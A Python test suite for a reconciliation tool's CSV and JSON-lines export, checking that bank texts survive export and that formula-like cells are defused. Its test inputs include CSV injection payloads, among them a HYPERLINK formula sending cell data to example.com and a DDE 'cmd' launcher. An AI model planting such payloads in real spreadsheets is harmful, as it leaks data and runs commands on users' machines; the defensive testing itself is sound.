"""Tables as CSV and JSON lines: what readers of either get is what was written, whatever a bank wrote."""

import csv
import io
import itertools
import json
import re
from collections.abc import Iterator
from datetime import date, timedelta

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ledgerd.core.model.ids import ROW_DECISION, encode
from ledgerd.core.model.reconciliation_statement import Ignored, LedgerBalance, Matched, Open
from ledgerd.reconciliation.export import ExportFormat, ExportRow, Money, Writer
from ledgerd.reconciliation.export_tables import (
    MATCHES,
    STATEMENT,
    UNMATCHED,
    match_rows,
    statement_rows,
    unmatched_row,
)
from ledgerd.reconciliation.statement import draw_up
from tests.reconciliation.statement.worlds import FIRST, SCOPE, bank_statement, entry, record

COLUMNS = ("text", "amount", "day")
DAY = date(2026, 3, 2)
FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A1,"paid")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\ufe631",
]
BANK_TEXTS = st.one_of(
    st.text(st.characters(codec="utf-8", exclude_characters="\0")),
    st.text("=+-@'\"\t\r\n, ;aé\u202e\u2028", max_size=8),
)


def read_csv(written: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(written.decode(), newline=""), strict=True))


def written(columns: tuple[str, ...], written_as: ExportFormat, *rows: ExportRow) -> bytes:
    return b"".join(Writer(columns, written_as).pieces(rows))


@given(st.lists(BANK_TEXTS, max_size=5))
def test_csv_gives_every_text_again_with_at_most_a_sign_in_front(texts: list[str]) -> None:
    rows = [(text, Money(-1_205, 100), DAY) for text in texts]
    header, *read = read_csv(written(COLUMNS, ExportFormat.CSV, *rows))
    assert tuple(header) == COLUMNS
    assert [row[1:] for row in read] == [["-12.05", "2026-03-02"]] * len(texts)
    for text, (cell, *_) in zip(texts, read, strict=True):
        assert cell in (text, f"'{text}")
        assert cell == "" or cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
        assert not cell.lstrip().startswith(("=", "+", "-", "@"))


@given(st.lists(BANK_TEXTS, max_size=5))
def test_json_lines_are_exact_and_no_text_ends_a_line(texts: list[str]) -> None:
    lines = written(COLUMNS, ExportFormat.JSONL, *((text, Money(1, 1), None) for text in texts)).decode("ascii")
    assert [json.loads(line) for line in lines.splitlines()] == [{"text": text, "amount": "1"} for text in texts]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_a_spreadsheet_would_run_is_a_text(text: str) -> None:
    assert read_csv(written(("text",), ExportFormat.CSV, (text,)))[1] == [f"'{text}"]


@pytest.mark.parametrize("text", ["12.50", "Invoice = 5", "a-b", "'quoted'", "", 'O\'Neill, "Peggy"', "two\r\nlines"])
def test_a_text_that_nobody_would_run_stays_as_it_is(text: str) -> None:
    assert read_csv(written(("text", "n"), ExportFormat.CSV, (text, 1)))[1] == [text, "1"]


def test_numbers_are_plain_and_lines_end_as_rfc_4180_says() -> None:
    row = ("a,b", Money(-(10**35) - 1, 100), DAY)
    assert written(COLUMNS, ExportFormat.CSV, row, (None, 7, None)) == (
        b'text,amount,day\r\n"a,b",-1000000000000000000000000000000000.01,2026-03-02\r\n,7,\r\n'
    )


@example(-5, 1)
@given(st.integers(-(10**36), 10**36), st.sampled_from([1, 100, 10**18]))
def test_no_amount_looks_like_anything_but_a_number(minor: int, precision: int) -> None:
    (cell,) = read_csv(written(("amount",), ExportFormat.CSV, (Money(minor, precision),)))[1]
    assert re.fullmatch(r"-?\d+(\.\d+)?", cell)


@pytest.mark.parametrize("written_as", ExportFormat)
def test_pieces_are_written_as_they_are_read_of_a_table_without_an_end(written_as: ExportFormat) -> None:
    read = 0

    def endless() -> Iterator[ExportRow]:
        nonlocal read
        for read in itertools.count(1):
            yield ("x" * 100, Money(read, 100), DAY)

    pieces = Writer(COLUMNS, written_as).pieces(endless())
    sizes = [len(next(pieces)) for _ in range(50)]
    assert read <= 50 * 500
    assert max(sizes) < 200 * 500


# The tables --------------------------------------------------------------------------------------


def test_a_match_has_a_row_for_each_of_its_rows() -> None:
    match = Matched(
        id="m1",
        rule="by reference",
        rows=(
            record(1, -500, DAY, account="DE1", reference="=INV-1", decision=7),
            entry(2, -500, DAY, description="rent", decision=7),
        ),
    )
    table = read_csv(written(MATCHES, ExportFormat.CSV, *match_rows(match, "EUR", 100)))
    assert [dict(zip(table[0], row, strict=True)) for row in table[1:]] == [
        {
            "match_id": "m1", "status": "CONFIRMED", "rule": "by reference", "side": side, "row_id": row_id,
            "day": "2026-03-02", "amount": "-5.00", "currency": "EUR", "account": account, "reference": reference,
            "counterparty": "", "description": description, "reconciliation_decision_id": encode(ROW_DECISION, 7),
        }
        for side, row_id, account, reference, description in [
            ("BANK", f"{1:019d}", "DE1", "'=INV-1", ""),
            ("LEDGER", f"{2:064x}", "", "", "rent"),
        ]
    ]  # fmt: skip


def test_rows_in_no_match_have_their_outcome_and_ignored_ones_their_reason() -> None:
    rows = [
        unmatched_row(Open(row=record(1, 5, DAY)), "JPY", 1),
        unmatched_row(Ignored(row=entry(1, -5, DAY), reason="-test"), "JPY", 1),
    ]
    read = [row[:6] for row in read_csv(written(UNMATCHED, ExportFormat.CSV, *rows))[1:]]
    assert read == [
        ["UNMATCHED", "", "BANK", f"{1:019d}", "2026-03-02", "5"],
        ["IGNORED", "'-test", "LEDGER", f"{1:064x}", "2026-03-02", "-5"],
    ]


def test_the_amounts_of_each_section_of_a_statement_are_those_of_its_proof() -> None:
    day = SCOPE.day
    standings = [Open(row=record(n, -n, day)) for n in range(1, 9)]
    standings += [Open(row=entry(n, 10 * n, day)) for n in range(1, 3)]
    standings += [Ignored(row=record(20, 3, day), reason="ours"), Ignored(row=entry(20, 4, day), reason="ours")]
    standings += [Matched(id="m1", rows=(record(30, 100, day), entry(30, 90, day)))]
    until = day - timedelta(days=1)
    statements = [bank_statement(1, opening=0, closing=0, opening_day=FIRST, closing_day=until)]
    statement = draw_up(SCOPE, statements, standings, LedgerBalance(total=124), items_max=5)
    rows = [dict(zip(STATEMENT, row, strict=True)) for row in statement_rows(statement)]
    of_section = {
        name: sum(row["amount"].minor for row in rows if row["section"] == name)
        for name in {r["section"] for r in rows}
    }
    proof = {row["item"]: row["amount"].minor for row in rows if row["section"] == "PROOF"}
    for section, sign in [
        ("ONLY_IN_BANK", -1), ("IGNORED_IN_BANK", -1), ("ONLY_IN_LEDGER", 1), ("IGNORED_IN_LEDGER", 1),
        ("DIFFERENCES", 1),
    ]:  # fmt: skip
        assert proof[section] == sign * of_section[section]
    assert proof["BANK_BALANCE"] == of_section["ACCOUNT"] == 67
    assert sum(list(proof.values())[:7]) == proof["EXPECTED"] == proof["LEDGER_BALANCE"] == 124
    more = [(row["section"], row["count"]) for row in rows if row["item"] == "MORE"]
    assert more == [("ONLY_IN_BANK", 3)]


def test_a_statement_without_a_balance_by_the_bank_says_why() -> None:
    statement = draw_up(SCOPE, [], [], LedgerBalance(total=0))
    assert [row[:2] for row in statement_rows(statement)] == [("ACCOUNT", "NO_STATEMENT")]
